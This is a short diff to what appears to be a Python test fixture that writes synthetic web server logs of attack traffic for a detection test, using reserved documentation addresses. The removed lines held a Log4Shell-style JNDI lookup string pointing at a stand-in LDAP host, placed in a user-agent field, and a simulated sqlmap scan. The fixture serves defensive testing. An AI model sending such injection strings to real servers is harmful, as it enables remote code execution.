@@ -733,8 +733,6 @@ def some_answered():
         log.add(at(3, n), "192.0.2.200", path, 200, 1_400 + n)
     for n, path in enumerate(ATTACKS * 3):  # one in three is answered
         log.add(at(4, n), f"192.0.2.{201 + n % 3}", path, 404 if n % 12 % 3 else 200, 900 + n)
-    log.add(at(5), "192.0.2.205", "/", 200, 9_800, agent="${jndi:ldap://203.0.113.66/a}")
-    log.sweep(at(6), 60, "192.0.2.206", [f"/v1/products/{n}" for n in range(6)], status=200, agent="sqlmap/1.8.2#stable (https://sqlmap.org)")
     log.write("api8/attack-strings", "some-answered")
 
 
